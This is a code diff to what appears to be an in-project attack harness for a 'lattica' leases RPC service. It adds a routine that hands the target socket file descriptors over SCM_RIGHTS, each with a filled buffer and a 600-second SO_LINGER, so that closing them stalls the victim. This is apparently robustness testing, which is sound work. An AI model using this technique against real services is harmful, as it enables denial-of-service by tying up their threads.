@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import secrets
 import socket
+import struct
+from array import array
+from contextlib import suppress
 from itertools import count
 
 import msgpack
@@ -29,6 +32,9 @@ from tools.attack.attacks.rpc.caller import as_many, make_calls, request, send, 
 _LEASES = "lattica.Leases"
 _OFFERS = 32
 """At a time, of each enemy."""
+_MOST_LINGERING = 256
+_SAME_MACHINE = "127.0.0.1"
+"""Where shared memory is taken from: at the victim's own address."""
 
 
 async def _borrow(victim: Victim) -> None:
@@ -76,15 +82,39 @@ async def _references(victim: Victim) -> None:
     await as_many(victim, one)
 
 
+class _Lingering:
+    """A socket whose last owner waits when he closes it (SO_LINGER)."""
+
+    def __init__(self) -> None:
+        with socket.create_server(("127.0.0.1", 0)) as listener:
+            self.sock = socket.create_connection(listener.getsockname())
+            self._other = listener.accept()[0]  # takes nothing
+        self.sock.setblocking(False)
+        with suppress(BlockingIOError):
+            while True:
+                self.sock.send(bytes(1 << 16))
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 600))
+
+    async def put_into(self, sock: trio.socket.SocketType, message: bytes) -> None:
+        with self.sock:
+            rights = array("i", [self.sock.fileno()])
+            try:
+                await sock.sendmsg([message], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
+            except OSError:
+                self._other.close()  # or this process waits
+                raise
+
+
 async def _offers(victim: Victim) -> None:
-    """Offers of sockets where nobody is, where somebody says nothing, and where he says enough for
-    the victim to make memory of its own.
+    """Offers of sockets where nobody is, where somebody says nothing, where he says enough for
+    the victim to make memory of its own, and where he hands over a socket that lingers.
     """
+    lingering: list[_Lingering] = []
 
     async def one(connection: Connection) -> None:
         async with trio.open_nursery() as nursery:
             for number in range(_OFFERS):
-                nursery.start_soon(again_and_again, connection, number % 3)
+                nursery.start_soon(again_and_again, connection, number % 4)
 
     async def again_and_again(connection: Connection, talks: int) -> None:
         while True:
@@ -109,9 +139,12 @@ async def _offers(victim: Victim) -> None:
                     with accepted:
                         if talks == 2:
                             await accepted.send(shown.secret)
+                        if talks == 3 and len(lingering) < _MOST_LINGERING:
+                            lingering.append(_Lingering())
+                            await lingering[-1].put_into(accepted, shown.secret)
                         await trio.sleep(0.5)
 
-    await as_many(victim, one)
+    await as_many(victim, one, source_ip=_SAME_MACHINE)
 
 
 BORROWED = Attack(
